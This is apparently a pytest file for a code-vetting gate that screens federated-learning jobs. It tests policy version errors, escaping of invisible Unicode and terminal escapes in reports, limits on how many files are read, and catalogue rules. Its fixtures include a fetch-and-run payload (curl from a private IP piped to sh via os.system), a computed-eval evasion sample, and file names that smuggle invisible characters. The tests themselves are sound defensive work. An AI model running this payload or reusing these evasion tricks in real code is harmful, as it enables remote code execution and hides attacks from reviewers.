"""Session 43: fail closed, stay up, hide nothing -- new variants of earlier failures.

- A policy of an unknown schema version (`version: 9`, `version: 0`) was read as version 1, silently.
- A job's hostile text reached the reports: an undecodable byte of a file name was written raw (text and HTML
  reports that are not UTF-8), and format characters the escape list missed (U+061C ARABIC LETTER MARK, a
  bidirectional mark; U+E0041 and the other Unicode tag characters, invisible) reached the reviewer's terminal.
- 2,500 padding scripts pushed a payload named to sort last past limits.max_files: the limit finding named only
  the first ten files left out, so no report said the payload's file was never read.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import collect
from analyzer.model import GateError
from analyzer.policy import Limits
from analyzer.reports import text as text_report
from analyzer.reports.run import Run, Scanned, printable
from conftest import ROOT
from handler import audit, snapshot
from tests.test_isolation import _site, deployed

PAYLOAD = "import os\nos.system('curl -s http://10.0.0.7/setup | sh')\n"


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "analyzer.commands.cli", *args], capture_output=True, cwd=ROOT,
                          timeout=300)


# ---- policies -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("version", ["9", "0", "2", "'1'", "true"])
def test_a_policy_of_an_unknown_version_is_an_error_that_names_it(tmp_path: Path, version: str) -> None:
    policy = tmp_path / "site.yaml"
    policy.write_text(f"version: {version}\nalways_reject: [network]\n")
    with pytest.raises(GateError, match="version"):
        api.load_policy(policy)
    (tmp_path / "train.py").write_text("import numpy as np\nprint(np.zeros(3))\n")
    proc = _cli("scan", "--no-cache", "--policy", str(policy), str(tmp_path / "train.py"))
    assert proc.returncode == 2 and b"version" in proc.stderr


def test_a_policy_of_version_1_still_loads(tmp_path: Path) -> None:
    policy = tmp_path / "site.yaml"
    policy.write_text("version: 1\n")
    assert api.load_policy(policy).version == 1


# ---- hostile text in reports --------------------------------------------------------------------------------------
HIDDEN = {
    "\u061c": "\\u061c",  # ARABIC LETTER MARK: a bidirectional format character
    "\U000e0041": "\\U000e0041",  # TAG LATIN CAPITAL LETTER A: invisible (ASCII smuggling)
    "\u2060": "\\u2060",  # WORD JOINER
    "\ue000": "\\ue000",  # private use
    "\u00a0": "\\u00a0",  # a space that is not one
    "\udcff": "\\xff",  # a file name's byte os.fsdecode could not decode
}


@pytest.mark.parametrize("char", sorted(HIDDEN))
def test_printable_shows_every_invisible_character_as_an_escape(char: str) -> None:
    assert printable(f"a{char}b") == f"a{HIDDEN[char]}b"
    assert printable("naïve résumé 训练\tok") == "naïve résumé 训练\tok"


def _hostile_job(root: Path) -> Path:
    root.mkdir()
    (root / "tr\udcffain.py").write_bytes(PAYLOAD.encode())  # b"tr\xffain.py"
    (root / "evil\u202e\U000e0041yp.py").write_text(
        "import os\n# \u061c[bold red]ACCEPT[/] [link=http://x]y[/link]\nos.system('id')  # \x1b[2J\n")
    return root


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "html"])
def test_reports_of_a_job_with_hostile_names_and_text_are_utf8_and_show_no_hidden_character(tmp_path: Path,
                                                                                         fmt: str) -> None:
    job = _hostile_job(tmp_path / "job")
    proc = _cli("scan", "--no-cache", "--format", fmt, str(job))
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout.decode("utf-8")  # valid UTF-8, whatever the file names
    for char in ("\x1b", "\u202e", "\u061c", "\U000e0041", "\udcff"):
        assert char not in out
    if fmt in ("json", "sarif"):
        json.loads(out)
    if fmt in ("text", "html"):
        assert "tr\\xffain.py" in out and "evil\\u202e\\U000e0041yp.py" in out


def test_rich_markup_in_a_finding_is_printed_as_written_in_colour_too(tmp_path: Path) -> None:
    job = _hostile_job(tmp_path / "job")
    report = api.scan(job)
    for color in (False, True):
        out = text_report.render(Run([Scanned(report, job)], tmp_path), color=color)
        assert "\\u061c[bold red]ACCEPT[/] [link=http://x]y[/link]" in out
        assert "\x1b]8;" not in out  # no hyperlink escape made from the job's `[link=...]`


# ---- padding past max_files ---------------------------------------------------------------------------------------
def test_the_limit_finding_names_a_payload_pushed_out_by_padding_scripts(tmp_path: Path) -> None:
    root = tmp_path / "job"
    root.mkdir()
    for i in range(2500):
        (root / f"aa_pad_{i:05d}.py").write_text(f"x{i} = {i}\n")
    (root / "zz_train.py").write_text(PAYLOAD)
    content = collect(root, Limits())
    [limit] = [f for f in content.findings if f.rule == "unanalyzable.limit-files"]
    assert "501 not read (501 of them code)" in limit.message and limit.message.endswith("zz_train.py")
    assert limit.never_accept and not content.complete


def test_the_limit_finding_names_code_up_to_max_files_and_counts_the_rest(tmp_path: Path) -> None:
    root = tmp_path / "job"
    root.mkdir()
    for i in range(12):
        (root / f"m{i:02d}.py").write_text("x = 1\n")
        (root / f"rows{i:02d}.csv").write_text("1\n")
    [limit] = collect(root, Limits(max_files=5)).findings
    named = limit.message.split("smaller first): ")[1]
    assert "19 not read (7 of them code)" in limit.message
    assert named.startswith("m05.py, ") and "m11.py, rows00.csv" in named and named.endswith(" ...")


# ---- the site: a review queue that cannot take the job ------------------------------------------------------------
UNKNOWN_LIBRARY = "import numpy as np\nimport mystery_lib\nprint(mystery_lib.go(np.zeros(3)))\n"


def test_a_review_queue_that_fails_leaves_the_job_escalated_with_its_findings(tmp_path: Path) -> None:
    (tmp_path / "queue").write_text("a file where the queue's folder should be")  # as a full or read-only disk
    verdict = _site(tmp_path).check_deployed_app(deployed(tmp_path, "job-unknown", UNKNOWN_LIBRARY), {})
    assert not verdict.allow
    assert verdict.message.startswith("jobgate: escalated") and "not held for review" in verdict.message
    assert "unvouched.import" in verdict.message
    entry = audit.read(tmp_path / "audit.jsonl")[-1]
    assert entry["decision"] == "escalate" and entry["queue_id"] == "" and entry["findings"]
    # the job process follows the deploy decision: still blocked
    assert not _site(tmp_path).check_job_process(str(tmp_path / "ws"), "site-1", "job-unknown").allow


# ---- a site catalogue may not vouch a threat ----------------------------------------------------------------------
# getattr(builtins, computed)(code): eval with the name spelled at run time, which no threat rule sees by name.
COMPUTED_EVAL = "import sys, builtins\nrun = getattr(builtins, 'ev' + sys.argv[1])\nrun(sys.argv[2])\n"


def _site_catalogue(tmp_path: Path, apis: str) -> Path:
    folder = tmp_path / "catalogue"
    folder.mkdir()
    (folder / "site.yaml").write_text(
        f"catalogue: site\nmodules: ['*']\napis:\n{apis}"
        "examples: {vouched: ['import sitelib'], unvouched: ['import requests\\nrequests.get(url)']}\n")
    policy = tmp_path / "site.yaml"
    policy.write_text("catalogues: [catalogue]\n")
    return policy


@pytest.mark.parametrize("pattern", ["'*'", "'builtins.*'", "eval", "'os.*'", "[sitelib.run, os.system]"])
def test_a_site_catalogue_entry_that_vouches_a_threat_rule_target_is_an_error(tmp_path: Path, pattern: str) -> None:
    policy = _site_catalogue(tmp_path, f"  - api: {pattern}\n    why: the site trusts it\n")
    (tmp_path / "train.py").write_text(COMPUTED_EVAL)
    proc = _cli("scan", "--no-cache", "--policy", str(policy), str(tmp_path / "train.py"))
    assert proc.returncode == 2, proc.stdout  # before: exit 0, the computed eval accepted under '*'
    assert b"threat rule" in proc.stderr and b"site.yaml" in proc.stderr


def test_a_site_catalogue_entry_with_conditions_on_a_threat_name_still_loads_and_vouches_no_computed_name(
        tmp_path: Path) -> None:
    policy = _site_catalogue(tmp_path, "  - api: 'builtins.*'\n    where: [{arg: 0, present: false}]\n"
                                       "    why: only called with nothing\n  - api: 'sitelib.*'\n    why: site helpers\n")
    report = api.scan(_write(tmp_path / "train.py", COMPUTED_EVAL), api.load_policy(policy))
    assert report.decision.value == "escalate" and "getattr(builtins, ?)" in " ".join(f.message for f in report.findings)


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


# ---- the site: a sparse file the analysis does not read is not read by the deploy record either -------------------
def test_neither_route_hashes_a_file_the_analysis_refused_to_read(tmp_path: Path, monkeypatch) -> None:
    app = deployed(tmp_path, "job-sparse", PAYLOAD)
    with open(app / "custom" / "weights.bin", "wb") as f:
        f.truncate(4 << 30)  # 4 GB, a few KB on disk: past the collector's hash budget, listed unread
    hashed: list[str] = []
    sha256 = snapshot._sha256
    monkeypatch.setattr(snapshot, "_sha256", lambda path: hashed.append(path) or sha256(path))
    gate = _site(tmp_path)
    deploy = gate.check_deployed_app(app, {})  # was a minute of the site's client process, hashing it
    assert not deploy.allow and deploy.message.startswith("jobgate: rejected")
    job = gate.check_job_process(str(tmp_path / "ws"), "site-1", "job-sparse")
    assert not job.allow
    assert not [path for path in hashed if path.endswith("weights.bin")]


def test_files_the_analysis_did_not_judge_are_hashed_within_a_budget(tmp_path: Path, monkeypatch) -> None:
    app = deployed(tmp_path, "job-1", "print(1)\n")
    (app / "custom" / ".__nvfl_sig.json").write_text("{}")  # not collected: NVFlare's submission signature
    (app / "custom" / "big.bin").write_bytes(b"\0" * 2000)
    monkeypatch.setattr(snapshot, "UNJUDGED_BYTES", 1000)
    listed = snapshot.judged_listing(app, {"custom/train.py": "ab" * 32})
    assert listed["custom/train.py"] == "ab" * 32 and listed["custom/big.bin"] == "unhashed"
    assert listed["custom/.__nvfl_sig.json"] == snapshot.listing(app)["custom/.__nvfl_sig.json"]
    assert snapshot.differences(listed, snapshot.listing(app, listed)) == ["custom/big.bin", "custom/train.py"]
